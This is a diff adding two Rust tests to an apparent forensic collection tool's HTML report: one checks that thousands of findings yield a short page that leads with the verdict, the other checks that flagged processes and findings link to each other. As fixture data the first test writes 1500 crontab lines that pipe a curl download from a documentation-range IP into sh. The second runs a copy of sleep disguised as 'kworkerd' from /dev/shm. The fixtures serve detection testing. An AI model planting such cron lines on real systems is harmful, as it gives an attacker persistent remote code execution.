@@ -42,3 +42,73 @@ fn attacker_markup_in_argv_is_text_in_every_report() {
     assert_eq!(r.code, 0);
     assert_eq!(std::fs::read_to_string(dest).unwrap(), html);
 }
+
+/// Thousands of findings: the page leads with the verdict (host, counts, top rules), renders
+/// a bounded number of cards per rule and says where the rest are; the first screen names the
+/// rule and its count. (Its height in a browser is measured by scripts/report-screenshots.sh.)
+#[test]
+fn thousands_of_findings_make_a_short_page_that_leads_with_the_verdict() {
+    let root = crate::harness::RootBuilder::new();
+    root.write("etc/hostname", b"many\n");
+    let crontab: String = (1..=1500)
+        .map(|i| {
+            format!(
+                "*/5 * * * * root curl -s http://198.51.100.{}/p{i}.sh | sh\n",
+                i % 250 + 1
+            )
+        })
+        .collect();
+    root.write("etc/crontab", crontab.as_bytes());
+    let out = tempfile::tempdir().unwrap();
+    let (run, archive) = collect(out.path(), &["--root", root.path().to_str().unwrap()]);
+    let mut a = archive.unwrap_or_else(|| panic!("{}", run.stderr));
+    let findings = String::from_utf8(a.member("findings.jsonl")).unwrap();
+    assert!(findings.lines().count() >= 1000);
+    let html = String::from_utf8(a.member("report.html")).unwrap();
+    let verdict = html.find("id=\"verdict\"").expect("a verdict section");
+    let first_card = html.find("class=\"finding\"").unwrap();
+    assert!(verdict < first_card);
+    let top = &html[verdict..first_card];
+    assert!(top.contains("<strong>many</strong>"), "{top}");
+    assert!(top.contains("1500 critical"), "{top}");
+    assert!(top.contains("Scheduled job pipes a download into a shell"));
+    // One rule: a bounded number of cards, the rest counted.
+    let cards = html.matches("class=\"finding\"").count();
+    assert!(cards <= 50, "{cards} cards");
+    assert!(html.contains("more findings of this rule in findings.jsonl"));
+    assert!(html.len() < 512 * 1024, "{} bytes", html.len());
+}
+
+/// A flagged process in the tree links to its finding, and the finding links back to it.
+#[test]
+fn flagged_processes_and_their_findings_link_both_ways() {
+    let shm = tempfile::tempdir_in("/dev/shm").unwrap();
+    let bin = shm.path().join("kworkerd");
+    std::fs::copy("/bin/sleep", &bin).unwrap();
+    let mut child = Command::new(&bin).arg("30").spawn().unwrap();
+    let pid = child.id();
+    let out = tempfile::tempdir().unwrap();
+    let (run, archive) = collect(out.path(), &["--profile", "volatile"]);
+    child.kill().ok();
+    child.wait().ok();
+    let mut a = archive.unwrap_or_else(|| panic!("{}", run.stderr));
+    let html = String::from_utf8(a.member("report.html")).unwrap();
+    let node = html
+        .find(&format!("<li id=\"p{pid}\">"))
+        .unwrap_or_else(|| panic!("no tree node for {pid}"));
+    let li = &html[node..node + 400.min(html.len() - node)];
+    let href = li.find("href=\"#f").expect("a flag linking to its finding");
+    let anchor: String = li[href + 8..]
+        .chars()
+        .take_while(char::is_ascii_digit)
+        .collect();
+    let card = html
+        .find(&format!("id=\"f{anchor}\""))
+        .expect("the finding the flag links to");
+    let end = html[card..].find("</div>").unwrap() + card;
+    assert!(
+        html[card..end].contains(&format!("href=\"#p{pid}\"")),
+        "{}",
+        &html[card..end]
+    );
+}
